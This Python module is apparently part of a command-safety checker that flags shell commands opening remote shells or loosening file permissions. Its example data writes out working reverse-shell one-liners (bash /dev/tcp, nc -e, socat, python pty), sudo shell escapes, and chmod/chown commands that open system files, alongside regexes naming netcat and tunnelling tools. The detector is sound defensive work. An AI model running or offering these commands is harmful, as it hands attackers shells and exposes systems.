"""Commands that let others in: shells handed out, restricted programs left for one, files opened to everybody.

Owns the rules on remote shells and file permissions.
"""

from __future__ import annotations

from collections.abc import Iterator

from gatekeeper.assessment.assessment import Hazard
from gatekeeper.assessment.rules import Rule
from gatekeeper.assessment.shell.deeds import SHELLS, Deed, program_of
from gatekeeper.assessment.shell.rules import Act, CommandRule, Situation, in_sh, programs
from gatekeeper.assessment.text.reading import compile_pattern

_SHELL_OUT = CommandRule(
    "shell.hands_out_a_shell",
    Hazard.INSECURE_CODE,
    "Gives a shell to another host, or leaves a restricted program for one",
    0.95,
    in_sh(
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "nc -e /bin/sh 10.0.0.1 4242",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f",
        "socat TCP:10.0.0.1:4242 EXEC:/bin/sh",
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));'
        'os.dup2(s.fileno(),0);pty.spawn("sh")\'',
        "sudo find . -exec /bin/sh \\; -quit",
        "sudo awk 'BEGIN {system(\"/bin/sh\")}'",
    ),
    in_sh(
        "nc -z db 5432", "bash -c 'echo hi'", "socat - TCP:db:5432", "awk '{print $1}' a", "ssh host uptime"
    ),
    (
        Act(
            "nc ncat netcat nc.traditional busybox",
            r" (?:-\w*[ec]\w*|--exec|--sh-exec) (?:/bin/|/usr/bin/)?(?:sh|bash|zsh|ash|cmd\S*|"
            r"powershell\S*)|\|\x1f*/bin/(?:ba)?sh",
        ),
        Act("socat", r"(?i)(?:exec|system):(?:['\"]?/|['\"]?(?:ba)?sh|['\"]?cmd)"),
        Act(
            "python python2 python3 perl ruby php node lua awk gawk mawk openssl telnet powershell pwsh",
            r"(?i)(?:socket|/inet/tcp|fsockopen|tcpsocket|net\.connect|TCPClient).*(?:pty\.spawn|dup2|"
            r"/bin/(?:ba)?sh|exec|cmd\.exe|subprocess|popen|spawn|iex|Invoke-Expression)",
        ),
        Act(
            "awk gawk mawk find vim vi view nano less more man git tar zip ed perl python python3 ruby lua node php "
            "env nmap gdb ftp mysql psql sqlite3 expect tclsh rsync ssh scp screen tmux watch xargs make docker "
            "rpm apt apt-get "
            "pip pip3 npm bundle gem composer ansible-playbook systemd-run strace ltrace script rvim taskset",
            r"(?i)-exec\x1f?(?:dir)? /?\S*\b(?:ba)?sh(?: -p)? (?:;|\\;|\+)|"
            r"BEGIN\x1f*\{\x1f*system\(\S*/(?:ba)?sh|(?: -c|\+) :!\S*/?(?:ba)?sh|^(?:vim|vi|view|rvim|nano|"
            r"less|man|more|git|ed|ftp)\b.*!(?:/bin/)?(?:ba)?sh|"
            r"checkpoint-action=exec|os\.(?:execl|system)\S*/(?:ba)?sh|exec\x1f*[\"'(]+/bin/(?:ba)?sh|"
            r"ProxyCommand=;?\S*sh|pcntl_exec|--unix-command|TF=\$\(mktemp|spawn\S*/bin/(?:ba)?sh|"
            r"-e \x1f?exec\x1f|os\.execute\(\S*/(?:ba)?sh|gtfo|Gem::|--eval=\S*sh|child_process\S*spawn\S*/bin",
        ),
        Act("xterm", r" -display \S*\d+\.\d+"),
        Act("chroot", r"^chroot /(?:mnt|host|hostfs|rootfs)\b"),
        Act("nsenter", r" (?:-t ?1|--target[ =]1)\b"),
        Act("unshare", r" -\w*r\w* (?:/bin/)?(?:ba)?sh"),
        Act("ssh", r" -\w*R ?\S*:\d+ \S+@| -\w*R \*?\d+:"),
        Act(
            "ngrok chisel frpc cloudflared localtunnel lt bore",
            r" (?:tcp|client .*R:|tunnel --url|-c|http 22|--port)",
        ),
    ),
)
_PERMISSIONS = Rule(
    "shell.opens_permissions",
    Hazard.INSECURE_CODE,
    "Lets everybody write files, or whoever runs a program be its owner",
    0.8,
    in_sh(
        "chmod 777 /srv/app/config", "chmod a+rwx uploads", "chmod u+s /usr/local/bin/tool", "chmod 4755 tool"
    ),
    in_sh(
        "chmod +x deploy.sh", "chmod 600 key.pem", "chmod 755 bin/a", "chmod u+rwx,g+rx a", "chmod 1777 /tmp"
    ),
)
_ALL_PERMISSIONS = Rule(
    "shell.opens_everything",
    Hazard.INSECURE_CODE,
    "Lets everybody write whole folders, or run a shell as its owner",
    0.9,
    in_sh(
        "chmod -R 777 /var/www",
        "sudo chmod -R a+rwX /etc",
        "chmod u+s /bin/bash",
        "chmod 666 /etc/shadow",
        "chown -R nobody /",
    ),
    in_sh("chmod -R 755 /var/www", "chmod -R u+rwX,go-w .", "chown -R app:app /app", "chmod 777 /tmp/socket"),
)
RULES: tuple[Rule, ...] = (_SHELL_OUT, _PERMISSIONS, _ALL_PERMISSIONS)

_TALKERS = programs("nc ncat netcat telnet openssl socat")
_EVERYBODY_WRITES = compile_pattern(r"^(?:[0-7]?[0-7]{2}[2367]|[ugo]*[ao][ugo]*[+=][rwxX]*w[rwxX]*)$")
_SETS_OWNER = compile_pattern(r"^(?:[246][0-7]{3}|[ug]+\+\w*s|\+s|u=\w*s\w*)$")
_STICKY = compile_pattern(r"^[1]777$")
_SYSTEM = compile_pattern(
    r"^/(?:etc|bin|usr|root|boot|lib|sbin|dev)(?:/|$)|^(?:/|/\*|/(?:var|home|srv|opt|data)/?|~|\$HOME|"
    r"(?:~/)?\.ssh\S*|/var/run/docker\.sock)$"
)
_TEMPORARY = compile_pattern(r"^/(?:tmp|var/tmp|dev/shm|run)(?:/|$)|^\$\{?TMP")
_A_SHELL = compile_pattern(
    r"/(?:ba|da|z|k|a)?sh$|/(?:python[\d.]*|perl|vim|find|nmap|cp|env|busybox|less|awk)$"
)


_EVERYTHING = frozenset({b"/", b"/*", b"/etc", b"/etc/", b"/usr", b"/bin", b"/var", b"/lib"})
_NOBODY = programs("000 0 0000 a-rwx -rwx")
_SOCKETS = (b"/dev/tcp/", b"/dev/udp/")


def judge(situation: Situation) -> Iterator[Rule]:
    """Yield the rules that a deed trips beside those told by its acts."""
    deed = situation.deed
    if deed.program in SHELLS and b"-c" not in deed.words and _is_piped_out(deed):
        yield _SHELL_OUT
    if any(redirect.target.startswith(_SOCKETS) for redirect in deed.command.redirects):
        yield _SHELL_OUT
    if deed.program == b"chmod":
        yield from _modes(deed)
    elif deed.program == b"chown" and _is_recursive(deed) and _EVERYTHING & set(deed.words):
        yield _ALL_PERMISSIONS


def _is_piped_out(deed: Deed) -> bool:
    sink = deed.command.sink
    return sink is not None and bool(sink.words) and program_of(sink.words[0].text) in _TALKERS


def _is_recursive(deed: Deed) -> bool:
    short = any(word[:1] == b"-" and word[1:2] != b"-" and b"R" in word for word in deed.words)
    return short or b"--recursive" in deed.words


def _modes(deed: Deed) -> Iterator[Rule]:
    words = [word for word in deed.words if word[:1] != b"-" or _EVERYBODY_WRITES.match(word) is not None]
    if len(words) < 2:
        return
    modes, targets = words[0].split(b","), words[1:]
    widely = _is_recursive(deed) or any(_SYSTEM.match(target) is not None for target in targets)
    if any(_SETS_OWNER.match(each) is not None for each in modes):
        yield (
            _ALL_PERMISSIONS
            if any(_A_SHELL.search(target) is not None for target in targets)
            else _PERMISSIONS
        )
    elif any(_EVERYBODY_WRITES.match(each) is not None and _STICKY.match(each) is None for each in modes):
        if not all(_TEMPORARY.match(target) is not None for target in targets):
            yield _ALL_PERMISSIONS if widely else _PERMISSIONS
    elif modes[0] in _NOBODY and widely:
        yield _ALL_PERMISSIONS
